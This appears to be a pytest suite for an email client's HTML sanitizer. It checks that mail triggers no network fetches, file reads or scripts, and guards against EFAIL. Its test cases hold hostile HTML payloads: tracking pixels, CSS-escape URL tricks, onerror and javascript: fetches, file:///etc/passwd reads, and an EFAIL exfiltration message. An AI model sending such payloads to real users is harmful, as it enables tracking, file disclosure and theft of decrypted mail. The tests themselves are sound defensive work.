"""HTML mail (issue 10): zero network requests and zero local file reads until the user
asks for remote content for that message; nothing executes or submits; parts are never
merged into one HTML document (EFAIL).

Each case renders the sanitized document the way a browser engine would load it:
:class:`Loader` fetches every URL the document makes an engine load by itself (images,
frames, style sheets, CSS ``url()``/``@import``/``image-set()``, fonts, scripts, meta
refresh, prefetch and preconnect links, posters, objects, SVG images), relative ones
against a base on a local HTTP server that counts its connections, and records every
``file:`` URL it would read. The count must stay zero; with remote content allowed the
same loader does reach the server, which shows it would have seen a leak.
"""

from __future__ import annotations

import re
import threading
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from pymailgui.message import view
from tests.support.mail import make_message

_GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)


@dataclass
class Counter:
    server: ThreadingHTTPServer
    connections: int = 0
    paths: list[str] = field(default_factory=list)

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture
def web() -> Iterator[Counter]:
    """A local HTTP server that counts every connection made to it."""
    counter: Counter

    class Handler(BaseHTTPRequestHandler):
        def setup(self) -> None:
            counter.connections += 1
            super().setup()

        def do_GET(self) -> None:
            counter.paths.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.send_header("Content-Length", str(len(_GIF)))
            self.end_headers()
            self.wfile.write(_GIF)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    counter = Counter(server)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield counter
    server.shutdown()
    server.server_close()
    thread.join(5)


_CSS_URL = re.compile(
    r"""url\(\s*['"]?([^'")\s]+)|@import\s+['"]([^'"]+)|image-set\(\s*['"]([^'"]+)""", re.I
)
_CSS_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})\s?")
_REFRESH = re.compile(r"url\s*=\s*['\"]?([^'\";]+)", re.I)
#: (tag, attribute) pairs an engine loads by itself; "*" for any tag.
_LOADED = {
    ("img", "src"), ("img", "srcset"), ("source", "srcset"), ("source", "src"),
    ("iframe", "src"), ("frame", "src"), ("script", "src"), ("embed", "src"),
    ("object", "data"), ("video", "poster"), ("video", "src"), ("audio", "src"),
    ("track", "src"), ("input", "src"), ("image", "href"), ("image", "xlink:href"),
    ("use", "href"), ("feimage", "href"), ("*", "background"), ("link", "href"),
}  # fmt: skip


class Loader(HTMLParser):
    """The URLs a browser engine would fetch from ``document`` on its own."""

    def __init__(self, base: str) -> None:
        super().__init__(convert_charrefs=True)
        self.base = base + "/mail/"
        self.urls: list[str] = []
        self.active: list[str] = []  # what would run or submit: scripts, handlers, forms
        self._style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "base" and values.get("href"):
            self.base = values["href"]
        for name, value in values.items():
            if (tag, name) in _LOADED or ("*", name) in _LOADED:
                for url in value.split(","):
                    self._add(url.strip().split(" ")[0])
            if name == "style":
                self._css(value)
            if name.startswith("on"):
                self.active.append(f"{tag} {name}")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            match = _REFRESH.search(values.get("content", ""))
            if match:
                self._add(match.group(1))
        if tag in {"script", "form", "button"}:
            self.active.append(tag)
        if values.get("href", "").lower().startswith(("javascript:", "data:")):
            self.active.append(f"{tag} href")  # a click would run it or open its page
        self._style = tag == "style"

    def handle_data(self, data: str) -> None:
        if self._style:
            self._css(data)

    def _css(self, text: str) -> None:
        # CSS escapes are decoded before anything else (CSS Syntax 3 §4.3.7): u\72l( is url(
        text = _CSS_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)
        for match in _CSS_URL.finditer(text):
            self._add(next(g for g in match.groups() if g))

    def _add(self, url: str) -> None:
        if url and not url.startswith(("data:image/", "cid:")):
            self.urls.append(urllib.parse.urljoin(self.base, url))


def render(document: str, base: str) -> tuple[list[str], list[str], list[str]]:
    """Load ``document`` as an engine would: (fetched URLs, local files read, active)."""
    loader = Loader(base)
    loader.feed(document)
    fetched, local = [], []
    for url in loader.urls:
        scheme = urllib.parse.urlsplit(url).scheme
        if scheme == "file" or not scheme:
            local.append(url)
        elif scheme in {"http", "https"}:
            fetched.append(url)
            try:
                urllib.request.urlopen(url, timeout=2).close()
            except OSError:
                pass
        else:
            local.append(url)  # anything else a renderer would resolve on its own
    return fetched, local, loader.active


def html_message(html: str) -> bytes:
    return make_message(
        "html",
        html,
        extra_headers="",
    ).replace(b"Content-Type: text/plain", b"Content-Type: text/html")


CASES = {
    "remote image": '<img src="{web}/pixel.gif">',
    "protocol-relative image": '<img src="//{host}/pixel.gif">',
    "relative image with a base": '<base href="{web}/"><img src="relative.gif">',
    "srcset": '<img srcset="{web}/a.png 1x, {web}/b.png 2x">',
    "picture source": '<picture><source srcset="{web}/p.webp"><img alt="x"></picture>',
    "iframe": '<iframe src="{web}/frame"></iframe>',
    "stylesheet": '<link rel="stylesheet" href="{web}/s.css">',
    "prefetch and preconnect": (
        '<link rel="prefetch" href="{web}/p"><link rel=preconnect href="{web}">'
    ),
    "css url in style": '<div style="background-image:url({web}/bg.png)">x</div>',
    "css escape trick": '<div style="background:u\\72l({web}/e.png)">x</div>',
    "style element import": "<style>@import url({web}/i.css); p {{color:red}}</style><p>x</p>",
    "image-set": "<div style=\"background-image:image-set('{web}/set.png' 1x)\">x</div>",
    "font face": "<style>@font-face {{font-family:x; src:url({web}/f.woff)}}</style>",
    "meta refresh": '<meta http-equiv="refresh" content="0; url={web}/refresh">',
    "body background": '<body background="{web}/body.png">text</body>',
    "table background": '<table background="{web}/t.png"><tr><td>x</td></tr></table>',
    "video poster": '<video poster="{web}/poster.png" src="{web}/v.mp4"></video>',
    "audio": '<audio src="{web}/a.mp3"></audio>',
    "object and embed": '<object data="{web}/o.swf"></object><embed src="{web}/e.swf">',
    "form": (
        '<form action="{web}/submit"><input name=q><input type=image src="{web}/btn.png"></form>'
    ),
    "script": '<script src="{web}/s.js"></script><script>fetch("{web}/x")</script>',
    "event handlers": '<img src="x" onerror="fetch(\'{web}/onerror\')"><p onclick="1">c</p>',
    "javascript link": "<a href=\"javascript:fetch('{web}/js')\">click</a>",
    "data html link": '<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">open</a>',
    "svg with script": (
        '<svg><image href="{web}/svg.png"/><script>fetch("{web}/svg")</script></svg>'
    ),
    "file image": '<img src="file:///etc/passwd"><img src="/etc/hostname">',
    "file link": '<link rel="stylesheet" href="file:///etc/passwd">',
    "fifo trap": '<img src="file:///tmp/fifo"><iframe src="file:///dev/zero"></iframe>',
}


@pytest.mark.parametrize("html", CASES.values(), ids=CASES.keys())
def test_nothing_is_fetched_read_or_run_until_allowed(web: Counter, html: str) -> None:
    host = web.base.removeprefix("http://")
    shown = view(html_message(html.format(web=web.base, host=host)))
    assert shown.html is not None
    fetched, local, active = render(shown.html, web.base)
    assert web.connections == 0, (fetched, web.paths)
    assert local == []
    assert active == []


@pytest.mark.parametrize("html", CASES.values(), ids=CASES.keys())
def test_each_case_would_leak_or_run_unsanitized(web: Counter, html: str) -> None:
    # The loader is honest: fed the mail's own HTML, it fetches, reads or runs something.
    host = web.base.removeprefix("http://")
    fetched, local, active = render(html.format(web=web.base, host=host), web.base)
    assert fetched or local or active


def test_allowing_remote_content_loads_its_images_only(web: Counter) -> None:
    # The same loader reaches the server once remote images are allowed: a leak above
    # would have been counted. Style sheets, frames and CSS stay blocked even then.
    html = (
        f'<img src="{web.base}/allowed.gif"><iframe src="{web.base}/frame"></iframe>'
        f'<div style="background:url({web.base}/bg)">x</div>'
        f'<link rel=stylesheet href="{web.base}/s">'
    )
    blocked = view(html_message(html))
    assert blocked.remote_content_blocked
    render(blocked.html or "", web.base)
    assert web.connections == 0
    allowed = view(html_message(html), allow_remote=True)
    render(allowed.html or "", web.base)
    assert web.paths == ["/allowed.gif"]


SECRET = "SECRET-PLAINTEXT-4242"


def efail(mixed: str = "mixed") -> bytes:
    """EFAIL's direct exfiltration: an HTML part opens an attribute, an encrypted part
    follows, a last HTML part closes it; merged, the decrypted text becomes a URL."""
    return (
        "From: attacker@example.org\r\nTo: victim@example.org\r\nSubject: efail\r\n"
        f'MIME-Version: 1.0\r\nContent-Type: multipart/{mixed}; boundary="B"\r\n\r\n'
        '--B\r\nContent-Type: text/html\r\n\r\n<img src="{web}/leak?'
        "\r\n--B\r\nContent-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n"
        f"{SECRET}\r\n-----END PGP MESSAGE-----\r\n"
        "--B\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\n"
        f"{SECRET}\r\n"
        '--B\r\nContent-Type: text/html\r\n\r\n">\r\n--B--\r\n'
    ).encode()


@pytest.mark.parametrize("subtype", ["mixed", "related", "alternative"])
@pytest.mark.parametrize("allow_remote", [False, True])
def test_efail_parts_are_never_merged_into_one_document(
    web: Counter, subtype: str, allow_remote: bool
) -> None:
    raw = efail(subtype).replace(b"{web}", web.base.encode())
    shown = view(raw, allow_remote=allow_remote)
    assert SECRET not in (shown.html or "")
    fetched, _, _ = render(shown.html or "", web.base)
    assert not any(SECRET in path for path in web.paths + fetched)
    assert '">' not in (shown.html or "").split("<body>", 1)[-1].split("</body>")[0].strip()


def test_a_second_html_part_is_a_part_not_more_of_the_document() -> None:
    raw = (
        b"From: a@example.org\r\nSubject: two\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        b"--B\r\nContent-Type: text/html\r\n\r\n<p>FIRST</p>\r\n"
        b"--B\r\nContent-Type: text/html\r\n\r\n<p>SECOND</p>\r\n--B--\r\n"
    )
    shown = view(raw)
    assert "FIRST" in (shown.html or "") and "SECOND" not in (shown.html or "")
    assert [p.content_type for p in shown.parts] == ["text/html", "text/html"]
